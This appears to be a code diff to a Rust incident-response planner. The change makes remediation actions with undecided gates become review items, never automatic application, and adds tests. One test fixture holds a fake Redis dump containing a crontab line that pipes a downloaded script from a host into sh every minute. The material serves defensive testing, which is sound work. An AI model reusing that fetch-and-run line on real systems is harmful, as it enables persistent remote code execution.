@@ -136,7 +136,33 @@ impl Reviews {
         });
         Gate::Review(vec![number])
     }
+
+    /// The gate `--apply` uses for an action: the one decided for its target, or, when none was (a
+    /// lookup that misses), a new review item saying so. Fails closed: never `Apply` by omission.
+    fn decided(
+        &mut self,
+        gate: Option<&Gate>,
+        title: &str,
+        target: impl FnOnce() -> String,
+    ) -> Gate {
+        if let Some(g) = gate {
+            return g.clone();
+        }
+        let number = u32::try_from(self.items.len() + 1).unwrap_or(u32::MAX);
+        self.items.push(ReviewItem {
+            number,
+            title: title.into(),
+            target: target(),
+            why: Vec::new(),
+            reason: vec![UNDECIDED.into()],
+        });
+        Gate::Review(vec![number])
+    }
 }
+
+/// Why an action whose gate could not be decided is a review item.
+const UNDECIDED: &str =
+    "its gate could not be decided: carried out only when the operator names it";
 
 /// Builds the plan for one analysis (the graph is the analysis's attack-trace graph).
 pub fn build(
@@ -301,7 +327,11 @@ fn assemble(
             }
             lines.push(r);
         }
-        edit_items.push((target, lines, why, gate.unwrap_or_default()));
+        let gate = match gate {
+            Some(g) => g,
+            None => reviews.decided(None, "remove the lines", || target.path.escaped()),
+        };
+        edit_items.push((target, lines, why, gate));
     }
     let file_gates: BTreeMap<Vec<u8>, Gate> = c
         .files
@@ -372,8 +402,13 @@ fn assemble(
     // Preserve: processes, then every file a later action changes (gated like the union of its users),
     // then evidence (when anything at all is destroyed; with the apply gate when anything is destroyed
     // unasked, else with the union of the review gates).
+    let proc_gate = |reviews: &mut Reviews, k: &(i32, u64), t: &super::plan::ProcessTarget| {
+        reviews.decided(proc_gates.get(k), "freeze and kill the process", || {
+            Action::Kill(t.clone()).target()
+        })
+    };
     for (k, (target, b)) in &c.procs {
-        let gate = proc_gates.get(k).cloned().unwrap_or_default();
+        let gate = proc_gate(&mut reviews, k, target);
         push(Action::PreserveProcess(target.clone()), b.why.clone(), gate);
     }
     let mut preserve_gate: BTreeMap<Vec<u8>, (FileTarget, Vec<String>, Gate)> = BTreeMap::new();
@@ -389,8 +424,13 @@ fn assemble(
     for (t, _, why, gate) in &edit_items {
         need(t, why, gate);
     }
+    let file_gate = |reviews: &mut Reviews, k: &Vec<u8>, t: &FileTarget| {
+        reviews.decided(file_gates.get(k), "quarantine the file", || {
+            t.path.escaped()
+        })
+    };
     for (k, (t, b, _)) in &c.files {
-        need(t, &b.why, file_gates.get(k).unwrap_or(&Gate::Apply));
+        need(t, &b.why, &file_gate(&mut reviews, k, t));
     }
     let all_gates: Vec<&Gate> = proc_gates
         .values()
@@ -420,7 +460,7 @@ fn assemble(
 
     // Freeze, remove persistence while frozen, kill.
     for (k, (target, b)) in &c.procs {
-        let gate = proc_gates.get(k).cloned().unwrap_or_default();
+        let gate = proc_gate(&mut reviews, k, target);
         push(Action::Freeze(target.clone()), b.why.clone(), gate);
     }
     let mut persistence: Vec<(Action, Vec<String>, Gate)> = Vec::new();
@@ -428,7 +468,7 @@ fn assemble(
     let mut quarantines = Vec::new();
     let mut repairs = Vec::new();
     for (k, (t, b, fate)) in &c.files {
-        let gate = file_gates.get(k).cloned().unwrap_or_default();
+        let gate = file_gate(&mut reviews, k, t);
         let preserved = pn(k);
         let a = match fate {
             FileFate::Unit(unit) => {
@@ -488,7 +528,9 @@ fn assemble(
     persistence.extend(edits);
     persistence.extend(quarantines);
     for (k, (target, b)) in &c.links {
-        let gate = link_gates.get(k).cloned().unwrap_or_default();
+        let gate = reviews.decided(link_gates.get(k), "remove the symbolic link", || {
+            Action::RemoveLink(target.clone()).target()
+        });
         persistence.push((Action::RemoveLink(target.clone()), b.why.clone(), gate));
     }
     let rewrites_preload = persistence.iter().any(|(a, _, _)| {
@@ -498,7 +540,7 @@ fn assemble(
         push(a, why, gate);
     }
     for (k, (target, b)) in &c.procs {
-        let gate = proc_gates.get(k).cloned().unwrap_or_default();
+        let gate = proc_gate(&mut reviews, k, target);
         push(Action::Kill(target.clone()), b.why.clone(), gate);
     }
 
@@ -511,7 +553,9 @@ fn assemble(
                 family: *family,
             },
             b.why.clone(),
-            rule_gates.get(rule).cloned().unwrap_or_default(),
+            reviews.decided(rule_gates.get(rule), "delete the firewall rule", || {
+                RawBytes::from(rule.clone()).escaped()
+            }),
         );
     }
     for ((ip, port), b) in &c.endpoints {
@@ -521,10 +565,17 @@ fn assemble(
                 port: *port,
             },
             b.why.clone(),
-            endpoint_gates
-                .get(&(*ip, *port))
-                .cloned()
-                .unwrap_or_default(),
+            reviews.decided(
+                endpoint_gates.get(&(*ip, *port)),
+                "block the endpoint",
+                || {
+                    Action::BlockEndpoint {
+                        ip: *ip,
+                        port: *port,
+                    }
+                    .target()
+                },
+            ),
         );
     }
 
@@ -539,7 +590,11 @@ fn assemble(
                 uid: *uid,
             },
             b.why.clone(),
-            account_gates.get(name).cloned().unwrap_or_default(),
+            reviews.decided(
+                account_gates.get(name),
+                "lock and expire the account",
+                || RawBytes::from(name.clone()).escaped(),
+            ),
         );
     }
     let acting = push(Action::Verify, Vec::new(), Gate::Apply) > 1;
@@ -644,6 +699,24 @@ mod tests {
 
     const RDB_CRONTAB: &[u8] =
         b"REDIS0009\xfa\x09redis-ver\x056.0.16\xfe\x00\n\n*/1 * * * * curl -fsSL http://127.66.3.1/cr.sh | sh\n\n\xff";
+
+    #[test]
+    fn an_action_whose_gate_cannot_be_decided_is_a_review_item_never_apply() {
+        let mut r = Reviews::default();
+        let medium = Basis::one("MT-X medium: t", &Attr::Review("medium only".into()));
+        assert_eq!(
+            r.gate(&medium, "remove the line".into(), "a".into()),
+            Gate::Review(vec![1])
+        );
+        // A lookup that misses: a numbered review item saying why, not `Apply`.
+        let g = r.decided(None, "quarantine the file", || "/tmp/.x/kit".into());
+        assert_eq!(g, Gate::Review(vec![2]));
+        assert_eq!(r.items[1].target, "/tmp/.x/kit");
+        assert_eq!(r.items[1].reason, vec![UNDECIDED.to_owned()]);
+        // A decided gate is kept as it is, and adds no item.
+        assert_eq!(r.decided(Some(&Gate::Apply), "t", String::new), Gate::Apply);
+        assert_eq!(r.items.len(), 2);
+    }
 
     #[test]
     fn redis_dumps_are_quarantined_whole_other_shared_files_lose_lines() {
@@ -817,6 +890,44 @@ mod tests {
             manual.contains("/tmp/.y/sleep") && manual.contains("as /usr/bin/sleep"),
             "{manual}"
         );
+    }
+
+    #[test]
+    fn a_tool_copied_under_another_name_is_removed_never_reinstalled() {
+        let mut model = fixture::model(
+            vec![
+                fixture::file(b"/usr/bin/tntrecht", Some(b"\x7fELF chattr")),
+                fixture::file(b"/usr/bin/chattr", Some(b"\x7fELF chattr")),
+                fixture::file(b"/usr/sbin/helper", Some(b"\x7fELF helper")),
+            ],
+            vec![],
+        );
+        // The collector lists what no package owns in a system binary directory as `system-bin`.
+        for f in &mut model.files {
+            if f.path.as_bytes() == b"/usr/bin/tntrecht" {
+                f.category = "system-bin".into();
+            }
+        }
+        let mut f = finding(&crate::detect::rules::EVA_022, Severity::High);
+        for p in [&b"/usr/bin/tntrecht"[..], b"/usr/sbin/helper"] {
+            f = f.subject(file_subject(model.file(p).expect("record")));
+        }
+        let plan = plan_of(model, doc(vec![f]));
+        assert_eq!(
+            quarantined(&plan),
+            vec![&b"/usr/bin/tntrecht"[..]],
+            "{:?}",
+            plan.items
+        );
+        // A system file with no package record at all is still planned as its package's repair.
+        assert!(plan.items.iter().any(|i| matches!(
+            &i.action,
+            Action::Reinstall { file, .. } if file.path.as_bytes() == b"/usr/sbin/helper"
+        )));
+        assert!(!plan.items.iter().any(|i| matches!(
+            &i.action,
+            Action::Reinstall { file, .. } if file.path.as_bytes() == b"/usr/bin/tntrecht"
+        )));
     }
 
     #[test]
